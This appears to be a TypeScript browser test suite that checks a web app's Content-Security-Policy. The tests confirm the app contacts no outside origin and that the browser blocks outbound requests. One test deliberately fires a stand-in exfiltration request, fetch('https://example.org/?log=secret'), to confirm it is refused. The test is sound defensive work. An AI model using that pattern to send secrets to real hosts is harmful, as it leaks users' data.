/** Nothing leaves the machine: the policy is there, it bites, and no request goes anywhere else. */
import { expect, it } from "vitest";
import { finished } from "./support/actions.ts";
import { useProduct } from "./support/use-product.ts";

const product = useProduct();

it("an analysis from the first screen to the last view asks no other origin and breaks no policy", async () => {
  const { page, witness } = product;
  await product.firstScreen();
  await page.getByRole("button", { name: "Try a sample" }).click();
  await finished(page);
  for (const name of ["Alerts", "Templates", "Lines", "Library", "Overview"]) {
    await page.getByRole("navigation", { name: "Views" }).getByRole("button", { name }).click();
    await page
      .getByRole("navigation", { name: "Views" })
      .locator("[aria-current=page]", { hasText: name })
      .first()
      .waitFor();
  }
  expect(witness.requests.length).toBeGreaterThan(3);
  expect(witness.requests.filter((url) => !url.startsWith(product.url) && !/^(?:blob|data):/.test(url))).toEqual([]);
  expect(witness.complaints).toEqual([]);
});

it("the policy in the page names no origin but its own", async () => {
  const policy = await product.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(policy).toMatch(/default-src 'none'/);
  expect(policy).toMatch(/require-trusted-types-for 'script'/);
  expect(policy).not.toMatch(/https?:|\*|unsafe-inline|'unsafe-eval'/);
});

it("the browser refuses what the page would send elsewhere", async () => {
  const refused = await product.page.evaluate(async () => {
    const violated: string[] = [];
    const bothViolated = new Promise<void>((resolve) => {
      document.addEventListener("securitypolicyviolation", (event) => {
        violated.push(event.effectiveDirective);
        if (violated.length === 2) resolve();
      });
    });
    const attempts = [fetch("https://example.org/?log=secret"), fetch("http://127.0.0.1:9/")];
    const outcomes = await Promise.allSettled(attempts);
    await bothViolated;
    return { outcomes: outcomes.map(({ status }) => status), violated };
  });
  expect(refused.outcomes).toEqual(["rejected", "rejected"]);
  expect(refused.violated).toEqual(["connect-src", "connect-src"]);
});
